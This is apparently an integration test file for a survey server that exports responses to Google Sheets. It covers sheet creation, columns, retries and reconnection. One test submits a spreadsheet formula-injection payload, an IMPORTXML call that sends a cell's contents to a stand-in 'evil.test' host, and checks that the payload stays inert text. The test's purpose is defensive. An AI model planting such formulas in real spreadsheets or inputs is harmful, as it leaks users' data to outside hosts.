import type { SavedSurvey, Survey } from '@userfeedback/contract';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test } from 'vitest';
import { deliveryKinds } from '../../../apps/server/src/features/deliveries/kinds.ts';
import { listPauses } from '../../../apps/server/src/features/deliveries/pauses/service.ts';
import { createDispatcher } from '../../../apps/server/src/features/deliveries/sending/dispatcher.ts';
import { dispatchDue } from '../../../apps/server/src/features/deliveries/testing.ts';
import type { Client } from '../../../apps/server/src/testing/client.ts';
import type { SubmissionBody, SurveyBody } from '../../../apps/server/src/testing/factories.ts';
import {
  createSurvey,
  radioQuestion,
  submitResponse,
  textQuestion,
} from '../../../apps/server/src/testing/factories.ts';
import { connectDrive, runAction } from '../../../apps/server/src/testing/google/connect.ts';
import { FOLDER } from '../../../apps/server/src/testing/google/files.ts';
import type { GoogleStandIn } from '../../../apps/server/src/testing/google/stand-in.ts';
import { startGoogle } from '../../../apps/server/src/testing/google/stand-in.ts';
import type { TestServer } from '../../../apps/server/src/testing/start-test-server.ts';
import { startTestServer, testDialects } from '../../../apps/server/src/testing/start-test-server.ts';

const NOW = '2026-11-20T12:00:00.000Z';
const APPEND = /:append$/;

describe.each(testDialects())('responses in a spreadsheet, on %s', (dialect) => {
  let google: GoogleStandIn;
  let server: TestServer;
  let admin: Client;
  let now: Date;

  beforeAll(async () => {
    google = await startGoogle();
    server = await startTestServer({
      dialect,
      now: NOW,
      licence: 'pro',
      addons: ['google-drive', 'question-types'],
      config: { google: google.client },
    });
    google.accounts.redirectUris = [`${server.deps.config.publicUrl}/api/v1/google-drive/callback`];
    admin = await server.as('administrator');
  });
  beforeEach(async () => {
    now = new Date(NOW);
    server.setNow(NOW);
    await server.deps.db.deleteFrom('deliveries').execute();
    await server.deps.db.deleteFrom('delivery_pauses').execute();
    await connectDrive(server, google, admin);
  });
  afterAll(async () => {
    await server.close();
    await google.close();
  });

  const createExported = (change: SurveyBody = {}, file_name = 'Answers') =>
    createSurvey(admin, { ...change, settings: { google_drive: { enable: true, file_name } } });
  const submit = async (survey: SavedSurvey, change: SubmissionBody = {}) =>
    (await submitResponse(server, survey, change)).body.data;
  const submitAnswer = (survey: SavedSurvey, question_id: string, value: string) =>
    submit(survey, { answers: [{ question_id, value }] });
  const dispatch = async () => {
    while ((await dispatchDue(server.deps, deliveryKinds(server.deps))) > 0);
  };
  const advance = (minutes: number) => {
    now = new Date(now.getTime() + minutes * 60_000);
    server.setNow(now.toISOString());
  };
  const listDeliveries = () =>
    server.deps.db
      .selectFrom('deliveries')
      .select(['kind', 'status', 'attempts', 'last_error'])
      .orderBy('response_id')
      .execute();
  const read = async (id: number) => (await admin.get<Survey>(`/surveys/${id}`)).body;
  const sheetOf = async (survey: { id: number }) =>
    google.files.get((await read(survey.id)).settings.google_drive.spreadsheet_id);

  test('the first response creates the spreadsheet, which the survey then knows (API-B-07, CS-13, OP-91)', async () => {
    const survey = await createExported({
      questions: [radioQuestion('q1', { settings: { comment_box: true } }), textQuestion('q2')],
    });
    expect(survey.settings.google_drive.spreadsheet_id).toBe('');
    const id = await submit(survey, {
      answers: [
        { question_id: 'q1', value: 'Yes', extra: { comments: 'Really' } },
        { question_id: 'q2', value: 'All of it' },
      ],
      page_submitted: { name: 'Pricing', url: 'https://example.test/pricing' },
    });
    await dispatch();
    const sheet = await sheetOf(survey);
    expect(sheet).toMatchObject({ name: 'Answers', parents: [], trashed: false });
    expect(sheet.rows).toEqual([
      ['Submitted at', 'Page', 'Question q1', 'Question q2', 'Comments', 'Response ID'],
      ['2026-11-20 13:00:00', 'Pricing (https://example.test/pricing)', 'Yes', 'All of it', 'Question q1: Really', id],
    ]);
    const { settings, revision } = await read(survey.id);
    expect(settings.google_drive).toEqual({ enable: true, file_name: 'Answers', spreadsheet_id: sheet.id });
    expect(revision).toBe(survey.revision);
  });

  test('a spreadsheet that was claimed, or a token that was requested, while the clock was ahead keeps no row waiting (FS-10)', async () => {
    const [other, survey] = [await createExported(), await createExported()];
    advance(30 * 60);
    await submit(other);
    await dispatch();
    const issued = google.accounts.issuedTokens;
    const db = server.deps.db.withTables<{ google_drive_sheets: Record<string, string | number> }>();
    await db
      .insertInto('google_drive_sheets')
      .values({
        survey_id: survey.id,
        file_key: `key-${survey.id}`,
        spreadsheet_id: '',
        layout: '[]',
        busy_until: new Date(now.getTime() + 90_000).toISOString(),
      })
      .execute();
    advance(-30 * 60 + 1);
    await submit(survey);
    await dispatch();
    expect((await sheetOf(survey))?.rows).toHaveLength(2);
    expect(google.accounts.issuedTokens).toBe(issued + 1);
  });

  test('an editor who saves neither changes nor loses the spreadsheet, and is not outdated by it (OP-91)', async () => {
    const survey = await createExported();
    await submit(survey);
    await dispatch();
    const { id } = await sheetOf(survey);
    const google_drive = { enable: true, file_name: 'Renamed', spreadsheet_id: 'theirs' };
    const { status, body } = await admin.post<SavedSurvey>('/surveys', {
      ...survey,
      settings: { ...survey.settings, google_drive },
    });
    expect([status, body.settings?.google_drive]).toEqual([200, { ...google_drive, spreadsheet_id: id }]);
    expect((await read(survey.id)).settings.google_drive.spreadsheet_id).toBe(id);
  });

  test('without a name it is called like the survey, and it goes into the chosen folder while that exists', async () => {
    const { id: folder_id } = google.files.create({ mimeType: FOLDER });
    await runAction(admin, 'google_sheets_select_folder', { folder_id });
    const first = await createExported({ title: 'How was it?' }, '  ');
    await submit(first);
    await dispatch();
    expect(await sheetOf(first)).toMatchObject({ name: 'How was it?', parents: [folder_id] });
    google.files.delete(folder_id);
    const second = await createExported();
    await submit(second);
    await dispatch();
    expect(await sheetOf(second)).toMatchObject({ parents: [] });
    await runAction(admin, 'google_sheets_remove_folder', {});
  });

  test('a survey without the setting costs no delivery and no call', async () => {
    const before = google.calls.length;
    await submit(await createSurvey(admin));
    await dispatch();
    expect([await listDeliveries(), google.calls.length]).toEqual([[], before]);
  });

  test('one more response is one check and one row', async () => {
    const survey = await createExported();
    await submit(survey);
    await dispatch();
    google.calls.length = 0;
    await submit(survey);
    await dispatch();
    const { id, rows } = await sheetOf(survey);
    expect(rows).toHaveLength(3);
    expect(google.calls).toEqual([`GET /drive/v3/files/${id}`, `POST /v4/spreadsheets/${id}/values/A1:append`]);
  });

  test('many first responses at once make one spreadsheet', async () => {
    const before = google.files.spreadsheets.length;
    const survey = await createExported();
    const ids = await Promise.all(Array.from({ length: 8 }, () => submit(survey)));
    await dispatch();
    expect(google.files.spreadsheets).toHaveLength(before + 1);
    const { rows } = await sheetOf(survey);
    expect(
      rows
        .slice(1)
        .map((row) => Number(row.at(-1)))
        .sort((a, b) => a - b),
    ).toEqual(ids.sort((a, b) => a - b));
  });

  test('questions that are added later get columns at the end, also beyond the 26th', async () => {
    const survey = await createExported();
    await submit(survey);
    await dispatch();
    const added = Array.from({ length: 25 }, (_, index) => textQuestion(`n${index}`));
    const { body } = await admin.post<SavedSurvey>('/surveys', {
      ...(await read(survey.id)),
      questions: [textQuestion('n-first'), radioQuestion('q1'), ...added],
    });
    const id = await submitAnswer(body, 'n24', 'The last one');
    await dispatch();
    const [head = [], first = [], second = []] = (await sheetOf(survey)).rows;
    expect(head.slice(0, 7)).toEqual([
      'Submitted at',
      'Page',
      'Question q1',
      'Comments',
      'Response ID',
      'Question n-first',
      'Question n0',
    ]);
    expect(head).toHaveLength(31);
    expect([first[2], second[2], second[4], second[30]]).toEqual(['Yes', '', id, 'The last one']);
  });

  test('an answer to a question that has since been deleted has its column too', async () => {
    const survey = await createExported({ questions: [radioQuestion('q1'), textQuestion('q2')] });
    await submitAnswer(survey, 'q2', 'Still here');
    await admin.post('/surveys', { ...survey, questions: [radioQuestion('q1')] });
    await dispatch();
    const { rows } = await sheetOf(survey);
    expect(rows[0]?.at(-1)).toBe('Question q2');
    expect(rows[1]?.at(-1)).toBe('Still here');
  });

  test('what looks like a formula stays text, and a rating is a number', async () => {
    const survey = await createExported({
      questions: [
        textQuestion('q1', { title: '=1+1' }),
        textQuestion('q2'),
        { id: 'q3', type: 'star-rating', title: 'Stars' },
      ],
    });
    await submit(survey, {
      answers: [
        { question_id: 'q1', value: '=IMPORTXML("https://evil.test/"&A1)' },
        { question_id: 'q2', value: '+49 30 1234' },
        { question_id: 'q3', value: 4 },
      ],
      page_submitted: { name: '@SUM(A1)' },
    });
    await dispatch();
    const { rows } = await sheetOf(survey);
    expect(rows[0]?.[2]).toBe('=1+1');
    expect(rows[1]?.slice(1, 5)).toEqual(['@SUM(A1)', '=IMPORTXML("https://evil.test/"&A1)', '+49 30 1234', 4]);
  });

  test.each([
    ['the row was written', APPEND],
    ['the file was created', /^POST \/drive\/v3\/files$/],
    ['its heading was written', /^PUT /],
  ])('when Google fails only after %s, the response is still there once', async (_when, call) => {
    const before = google.files.spreadsheets.length;
    const survey = await createExported();
    google.failNext({ call, status: 500, done: true });
    const id = await submit(survey);
    await dispatch();
    expect(await listDeliveries()).toMatchObject([{ status: 'pending', last_error: expect.stringContaining('500') }]);
    advance(5);
    await dispatch();
    expect(await listDeliveries()).toMatchObject([{ status: 'sent', attempts: 2, last_error: null }]);
    expect(google.files.spreadsheets).toHaveLength(before + 1);
    expect((await sheetOf(survey)).rows.slice(1)).toMatchObject([[expect.anything(), '', 'Yes', '', id]]);
  });

  test('a response that is delivered twice, as after a crash, is written once', async () => {
    const survey = await createExported();
    await submit(survey);
    await dispatch();
    await server.deps.db.updateTable('deliveries').set({ status: 'pending', next_attempt_at: NOW }).execute();
    await dispatch();
    expect((await sheetOf(survey)).rows).toHaveLength(2);
  });

  test('asked to slow down, it tries again when Google says so', async () => {
    const survey = await createExported();
    google.failNext({ call: APPEND, status: 429, headers: { 'retry-after': '3600' } });
    await submit(survey);
    await dispatch();
    advance(59);
    await dispatch();
    expect(await listDeliveries()).toMatchObject([{ status: 'pending', attempts: 1 }]);
    advance(2);
    await dispatch();
    expect((await sheetOf(survey)).rows).toHaveLength(2);
  });

  test.each([
    ['in the bin', (sheet: { trashed: boolean; id: string }) => Object.assign(sheet, { trashed: true })],
    ['deleted', ({ id }: { id: string }) => google.files.delete(id)],
  ])('a spreadsheet that is %s is created again', async (_how, remove) => {
    const survey = await createExported();
    await submit(survey);
    await dispatch();
    const before = await sheetOf(survey);
    remove(before);
    const id = await submit(survey);
    await dispatch();
    const after = await sheetOf(survey);
    expect(after.id).not.toBe(before.id);
    expect(after.rows.map((row) => row.at(-1))).toEqual(['Response ID', id]);
  });

  test('a token that Google no longer accepts is requested again', async () => {
    const survey = await createExported();
    await submit(survey);
    google.accounts.expire();
    await dispatch();
    expect(await listDeliveries()).toMatchObject([{ status: 'sent', attempts: 1 }]);
  });

  test('without access rows wait; once connected again they arrive, each once (DC-28)', async () => {
    const survey = await createExported();
    google.accounts.revokeAll();
    await submit(survey);
    await dispatch();
    for (let n = 0; n < 19; n++) await submit(survey);
    for (let hour = 0; hour < 60; hour++) {
      await dispatch();
      advance(60);
    }
    expect(new Set((await listDeliveries()).map(({ status, attempts }) => `${status} ${attempts}`))).toEqual(
      new Set(['pending 0']),
    );
    expect(await listPauses(server.deps.db)).toMatchObject([
      { destination: 'google-drive', reason: 'Google Drive is not connected.' },
    ]);
    await connectDrive(server, google, admin);
    await dispatch();
    expect((await sheetOf(survey)).rows).toHaveLength(21);
  });

  test('a server with another secret keeps the connection it cannot read; with the former one the row arrives (SP-09)', async () => {
    const survey = await createExported();
    const other = await startTestServer({
      dialect,
      beside: server,
      config: { google: google.client, secret: 'the one that was adopted' },
    });
    onTestFinished(() => other.close());
    other.setNow(NOW);
    await submit(survey);
    while ((await dispatchDue(other.deps, deliveryKinds(other.deps))) > 0);
    const message =
      'This server cannot read the connection to owner@drive.test. Connect again, or give the server its former UF_SECRET.';
    expect(await listDeliveries()).toMatchObject([{ status: 'pending', attempts: 0 }]);
    expect(await listPauses(server.deps.db)).toMatchObject([
      { destination: 'google-drive', reason: 'it cannot be read on this server.' },
    ]);
    const elsewhere = await other.as('administrator');
    expect(await runAction(elsewhere, 'google_sheets_check_connection', {})).toMatchObject({
      body: { success: false, data: { message } },
    });
    expect(await runAction(admin, 'google_sheets_check_connection', {})).toMatchObject({
      body: { success: true },
    });
    expect((await read(survey.id)).settings.google_drive.spreadsheet_id).toBe('');
    const dispatcher = createDispatcher(server.deps);
    dispatcher.start();
    await expect.poll(listDeliveries).toMatchObject([{ status: 'sent', attempts: 1 }]);
    await dispatcher.stop();
    expect((await sheetOf(survey)).rows).toHaveLength(2);
  });

  test('where nothing was ever connected nothing retries for ever', async () => {
    await runAction(admin, 'google_sheets_disconnect', {});
    await submit(await createExported());
    await dispatch();
    expect(await listDeliveries()).toMatchObject([{ status: 'pending', attempts: 0 }]);
    expect(await listPauses(server.deps.db)).toMatchObject([{ reason: 'Google Drive is not connected.' }]);
  });

  test('deleting a survey deletes its notes', async () => {
    const survey = await createExported();
    await submit(survey);
    await dispatch();
    await admin.post('/surveys/trash', { survey_ids: [survey.id] });
    expect((await admin.delete('/surveys', { survey_ids: [survey.id] })).status).toBe(200);
    const notes = await server.deps.db
      .withTables<{ google_drive_sheets: { survey_id: number } }>()
      .selectFrom('google_drive_sheets')
      .selectAll()
      .where('survey_id', '=', survey.id)
      .execute();
    expect(notes).toEqual([]);
  });
});
